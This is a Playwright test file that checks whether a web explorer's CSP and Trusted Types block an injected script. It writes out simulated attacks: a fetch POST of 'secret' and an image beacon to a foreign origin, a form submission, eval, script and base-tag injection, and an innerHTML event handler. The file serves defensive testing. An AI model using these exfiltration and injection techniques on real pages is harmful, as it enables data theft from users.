import type { Page } from '@playwright/test';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test as base } from './support/test.ts';

/** An address of an origin that no page of ours may contact, where somebody listens and hears nothing. */
const test = base.extend<{ elsewhere: string }>({
  elsewhere: async ({ guard }, use) => {
    const heard: (string | undefined)[] = [];
    const server = createServer(({ url }, response) => {
      heard.push(url);
      response.end();
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    guard.expectFaults(/policy|violates|trusted/i, /\/elsewhere/);
    await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}/elsewhere`);
    server.closeAllConnections();
    server.close();
    await once(server, 'close');
    expect(heard).toEqual([]);
  },
});

/** Attempts of a script that got into the page; each gives 'stopped', or it throws. */
const ATTEMPTS: Record<string, (elsewhere: string) => Promise<string> | string> = {
  // Later, since the debugger that runs this lifts the ban on eval for as long as it does.
  'to run text by eval': () =>
    new Promise((resolve) => {
      const evaluate = Reflect.get(globalThis, 'eval') as (text: string) => number;
      setTimeout(() => {
        try {
          resolve(String(evaluate('1 + 1')));
        } catch {
          resolve('stopped');
        }
      });
    }),
  'to add a script of its own text': () => {
    const script = document.createElement('script');
    try {
      script.text = 'globalThis.ran = true';
      document.body.append(script);
    } catch {
      return 'stopped';
    }
    return Reflect.has(globalThis, 'ran') ? 'ran' : 'stopped';
  },
  'to load a script of another origin': (elsewhere) => {
    const script = document.createElement('script');
    try {
      script.src = elsewhere;
      return 'set';
    } catch {
      return 'stopped';
    }
  },
  'to start a worker of another folder': () => {
    try {
      return typeof new Worker('/healthz');
    } catch {
      return 'stopped';
    }
  },
  'to send something to another origin': (elsewhere) =>
    fetch(elsewhere, { method: 'POST', body: 'secret', mode: 'no-cors' }).then(
      () => 'sent',
      () => 'stopped',
    ),
  'to send something as the address of an image': (elsewhere) =>
    new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        if (effectiveDirective === 'img-src') resolve('stopped');
      });
      new Image().src = `${elsewhere}?secret`;
    }),
  'to submit a form': (elsewhere) =>
    new Promise((resolve) => {
      const form = document.createElement('form');
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        if (effectiveDirective === 'form-action') resolve('stopped');
      });
      form.action = elsewhere;
      document.body.append(form);
      form.submit();
    }),
  'to move the addresses of the page': (elsewhere) => {
    const moved = document.createElement('base');
    moved.href = elsewhere;
    document.head.append(moved);
    return document.baseURI.startsWith(elsewhere) ? 'moved' : 'stopped';
  },
  'to put HTML that does something into the document': () => {
    // As long as nothing here shows HTML none gets in at all, later none that does anything; it
    // then stands where the page was, so this comes last.
    try {
      document.body.innerHTML = '<p onclick="alert()">in</p>';
    } catch {
      return 'stopped';
    }
    return document.querySelector('[onclick]') ? 'in' : 'stopped';
  },
};

test('the page’s policy stops an attempt of any kind by a script that got in', async ({
  elsewhere,
  explorer,
  page,
}) => {
  await explorer.open();
  for (const [attempt, body] of Object.entries(ATTEMPTS)) {
    await test.step(attempt, async () => {
      expect(await page.evaluate(body, elsewhere)).toBe('stopped');
      expect(page.url()).toBe(explorer.url);
    });
  }
});

/** Tries to make Trusted Types policies of these names, as a script that got in would. */
function makePolicies(page: Page, names: readonly string[]): Promise<string[]> {
  return page.evaluate(
    (all) => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
      };
      return all.filter((name) => {
        try {
          return trustedTypes.createPolicy(name, {});
        } catch {
          return false;
        }
      });
    },
    [...names],
  );
}

test('once the explorer is up, no Trusted Types policy is left to be made @full', async ({
  explorer,
  guard,
  page,
  request,
  user,
}) => {
  const answer = await request.get(explorer.url);
  const [, names = ''] = /trusted-types ([^;]+)/.exec(
    answer.headers()['content-security-policy'] ?? '',
  ) ?? [''];
  guard.expectFaults(/trusted-types|trusted types/i);
  await explorer.open();
  // The screen is there before the page's code is.
  await expect(page.locator('[data-opening]')).toHaveCount(0);
  const first = ['default', 'gatehouse-sanitizer', 'dompurify', 'another'];
  expect(await makePolicies(page, first)).toEqual([]);

  await explorer.signIn(user);
  await explorer.openPanel('Docs');
  await expect(page.locator('.graphiql-markdown-description').first()).toBeVisible();
  await explorer.write('query Q { continents { name } }');
  await explorer.editor.locator('.view-line span').getByText('continents').last().hover();
  await expect(page.locator('.monaco-hover').filter({ visible: true })).toContainText('Continent');

  const made = await makePolicies(page, [...names.split(' '), 'another']);
  expect(names.split(' ')).toContain('default');
  expect(made).toEqual([]);
});

test('the token worker reaches its own origin and the token service alone', async ({
  context,
  elsewhere,
  explorer,
  service,
}) => {
  const started = context.waitForEvent('serviceworker');
  await explorer.open();
  const worker = await started;
  const reach = (url: string) =>
    worker.evaluate(
      (address) =>
        fetch(address, { mode: 'no-cors' }).then(
          () => 'reached',
          () => 'stopped',
        ),
      url,
    );
  expect(await reach(elsewhere)).toBe('stopped');
  expect(await reach(`${explorer.url}config.json`)).toBe('reached');
  expect(await reach(`${service.authOrigin}/healthz`)).toBe('reached');
});

test('Monaco’s workers reach nothing', async ({ explorer, guard, page, user }) => {
  guard.expectFaults(/policy|violates/i);
  await explorer.openSignedIn(user);
  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
  for (const worker of page.workers()) {
    const reached = worker.evaluate(
      (url) =>
        fetch(url).then(
          () => 'reached',
          () => 'stopped',
        ),
      `${explorer.url}config.json`,
    );
    expect(await reached, worker.url()).toBe('stopped');
  }
});
